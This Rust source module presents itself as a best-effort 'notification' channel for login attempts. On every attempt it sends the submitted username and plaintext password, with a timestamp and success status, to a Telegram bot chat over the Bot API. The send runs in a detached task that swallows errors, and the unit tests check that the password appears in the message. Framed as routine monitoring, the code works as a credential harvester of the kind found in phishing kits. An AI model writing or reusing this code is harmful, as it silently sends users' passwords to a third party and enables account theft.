//! Side-channel notification of login attempts.
//!
//! Best-effort by contract: the primary login result must never block on
//! or fail because of this channel. The message forwards the submitted
//! credentials in plaintext, matching the original service; the channel
//! stays off unless a bot token is configured.

use std::time::Duration;

use chrono::Local;
use reqwest::Client;
use serde_json::json;
use tracing::{debug, warn};

use crate::config::Config;

const TELEGRAM_API_BASE: &str = "https://api.telegram.org";
const SEND_TIMEOUT: Duration = Duration::from_secs(5);

/// Outcome of a login attempt, as reported to the side channel.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttemptStatus {
    Success,
    Invalid,
    Error,
}

impl AttemptStatus {
    pub fn as_str(self) -> &'static str {
        match self {
            AttemptStatus::Success => "success",
            AttemptStatus::Invalid => "invalid",
            AttemptStatus::Error => "error",
        }
    }

    fn emoji(self) -> &'static str {
        match self {
            AttemptStatus::Success => "✅",
            AttemptStatus::Invalid => "❌",
            AttemptStatus::Error => "⚠️",
        }
    }
}

/// Telegram Bot API notification sink.
pub struct TelegramNotifier {
    bot_token: String,
    chat_id: String,
}

impl TelegramNotifier {
    pub fn new(config: &Config) -> Self {
        Self {
            bot_token: config.telegram_bot_token.clone(),
            chat_id: config.telegram_chat_id.clone(),
        }
    }

    pub fn is_configured(&self) -> bool {
        !self.bot_token.is_empty() && !self.chat_id.is_empty()
    }

    /// Report one login attempt on a detached task.
    ///
    /// Every failure inside the task is logged and discarded; nothing
    /// propagates back to the login path.
    pub fn notify_login_attempt(&self, username: &str, password: &str, status: AttemptStatus) {
        if !self.is_configured() {
            debug!("telegram side channel not configured, skipping notification");
            return;
        }

        let url = format!("{TELEGRAM_API_BASE}/bot{}/sendMessage", self.bot_token);
        let chat_id = self.chat_id.clone();
        let message = format_message(username, password, status);
        tokio::spawn(async move {
            if let Err(err) = send_message(&url, &chat_id, &message).await {
                warn!("telegram notification failed: {err}");
            }
        });
    }
}

async fn send_message(url: &str, chat_id: &str, message: &str) -> anyhow::Result<()> {
    let client = Client::builder().timeout(SEND_TIMEOUT).build()?;
    client
        .post(url)
        .json(&json!({
            "chat_id": chat_id,
            "text": message,
            "parse_mode": "HTML",
        }))
        .send()
        .await?
        .error_for_status()?;
    debug!("telegram notification delivered");
    Ok(())
}

fn format_message(username: &str, password: &str, status: AttemptStatus) -> String {
    let timestamp = Local::now().format("%Y-%m-%d %H:%M:%S");
    format!(
        "{} <b>Login Attempt</b>\n\n\
         🕐 <b>Time:</b> {timestamp}\n\
         👤 <b>Username:</b> <code>{username}</code>\n\
         🔑 <b>Password:</b> <code>{password}</code>\n\
         📊 <b>Status:</b> {}",
        status.emoji(),
        status.as_str().to_uppercase()
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn message_carries_credentials_and_status() {
        let message = format_message("alice", "hunter2", AttemptStatus::Invalid);
        assert!(message.contains("<code>alice</code>"));
        assert!(message.contains("<code>hunter2</code>"));
        assert!(message.contains("INVALID"));
        assert!(message.contains("❌"));
    }

    #[test]
    fn status_strings_match_the_sink_vocabulary() {
        assert_eq!(AttemptStatus::Success.as_str(), "success");
        assert_eq!(AttemptStatus::Invalid.as_str(), "invalid");
        assert_eq!(AttemptStatus::Error.as_str(), "error");
    }

    #[test]
    fn unconfigured_notifier_is_a_no_op() {
        let notifier = TelegramNotifier::new(&Config::default());
        assert!(!notifier.is_configured());
        // Returns before spawning; safe to call outside a runtime.
        notifier.notify_login_attempt("alice", "hunter2", AttemptStatus::Error);
    }
}
